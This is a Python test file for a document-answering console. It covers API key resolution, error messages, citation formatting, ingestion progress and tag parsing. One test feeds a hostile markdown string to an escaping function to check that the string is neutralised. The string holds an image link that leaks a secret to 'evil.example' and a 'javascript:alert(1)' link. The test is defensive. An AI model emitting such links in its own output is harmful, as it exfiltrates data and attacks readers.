"""The console's pure pieces: which key it uses, how errors, progress, answers and sources read."""

from __future__ import annotations

import re

import pytest
from pydantic import SecretStr

from atelier.client import ApiError, ServerUnreachable
from atelier.console.actions import (
    AnswerView,
    DocumentView,
    Source,
    describe_error,
    escape_markdown,
    parse_tags,
    resolve_connection,
)
from atelier.settings import Settings

UNESCAPED_SPECIAL = re.compile(r"(?<!\\)[\[\]()!*_`<>$:#|~]")


def settings(tmp_path, **values) -> Settings:
    return Settings(data_dir=tmp_path, cache_dir=tmp_path / "cache", **values)


def test_typed_key_wins_over_the_environment_and_is_never_in_the_repr(tmp_path):
    conn = resolve_connection(settings(tmp_path, api_key=SecretStr("env-key")), "", "  typed-key ")
    assert (conn.api_key, conn.key_source, conn.url) == ("typed-key", "sidebar", "http://127.0.0.1:8000")
    assert "typed-key" not in repr(conn)


def test_key_from_the_environment_then_the_local_admin_key_then_none(tmp_path):
    env = resolve_connection(settings(tmp_path, api_key=SecretStr("env-key"), url="http://h:1"), "", "")
    assert (env.api_key, env.key_source, env.url) == ("env-key", "environment", "http://h:1")
    assert resolve_connection(settings(tmp_path), "", "").key_source == "none"
    (tmp_path / "admin.key").write_text("local-admin\n")
    local = resolve_connection(settings(tmp_path), "http://typed:2/", "")
    assert (local.api_key, local.key_source, local.url) == ("local-admin", "admin.key", "http://typed:2/")


@pytest.mark.parametrize(
    ("error", "expected"),
    [
        (ApiError(401, "invalid API key"), "Not authenticated (HTTP 401): invalid API key — check the API key"),
        (ApiError(403, "no policy allows it"), "Not allowed (HTTP 403): no policy allows it — your key's policies"),
        (ApiError(404, "knowledge base 'kb_x' not found"), "Not found (HTTP 404): knowledge base 'kb_x' not found"),
        (ApiError(429, "too many requests", retry_after=3.0),
         "Too many requests (HTTP 429): too many requests — retry in 3 s."),
        (ApiError(400, "too long", "question"), "Invalid request (HTTP 400): too long (param: question)"),
        (ApiError(503, "busy"), "Service unavailable (HTTP 503): busy"),
        (ServerUnreachable("http://127.0.0.1:9", "connection refused"),
         "Cannot reach the Atelier server at http://127.0.0.1:9 (connection refused)"),
    ],
)  # fmt: skip
def test_errors_name_their_status_and_what_to_do(error, expected):
    assert describe_error(error).startswith(expected)


def test_document_text_cannot_format_the_page():
    hostile = "![x](http://evil.example/leak?q=secret) [click](javascript:alert(1)) **bold** <b>html</b> $x$ :red[hi]"
    escaped = escape_markdown(hostile)
    assert not UNESCAPED_SPECIAL.search(escaped), escaped
    assert re.sub(r"\\(.)", r"\1", escaped) == hostile  # nothing lost: it reads the same
    assert escape_markdown("line one\nline two") == "line one  \nline two"


def test_answer_markdown_bolds_only_the_markers_of_real_citations():
    source = Source(1, "doc_1", "notes.md", "Paris is the capital.", 0, 21)
    view = AnswerView("Paris [1], not [7]. *Really*", [source], [source])
    assert view.markdown == r"Paris **\[1\]**, not \[7\]\. \*Really\*"


def test_source_label_names_the_file_the_span_and_the_heading():
    assert Source(2, "doc_1", "guide.md", "text", 120, 480, "Install > Disks").label == (
        "[2] guide.md · characters 120–480 · Install > Disks"
    )
    passage = Source.from_json({"document_id": "d", "filename": "a.txt", "text": "t", "start": 3, "end": 9}, 4)
    assert (passage.index, passage.label) == (4, "[4] a.txt · characters 3–9")


@pytest.mark.parametrize(
    ("data", "fraction", "status", "finished"),
    [
        ({"state": "pending"}, 0.0, "pending", False),
        ({"state": "ingesting", "progress": {"chunks_done": 3, "chunks_total": 12}}, 0.25, "ingesting · 3/12 chunks",
         False),
        ({"state": "ingesting", "progress": None}, 0.0, "ingesting", False),
        ({"state": "ready", "chunk_count": 1}, 1.0, "ready · 1 chunk", True),
        ({"state": "ready", "chunk_count": 12}, 1.0, "ready · 12 chunks", True),
        ({"state": "failed", "error": "notes.pdf: not a PDF"}, 0.0, "failed · notes.pdf: not a PDF", True),
    ],
)  # fmt: skip
def test_document_progress_and_state(data, fraction, status, finished):
    doc = DocumentView.from_json({"id": "doc_1", "filename": "notes.md", **data})
    assert (doc.fraction, doc.status, doc.finished) == (fraction, status, finished)


def test_tags_are_split_trimmed_and_deduplicated():
    assert parse_tags(" hr, 2024 ,,hr, legal ") == ["hr", "2024", "legal"]
    assert parse_tags("") == []
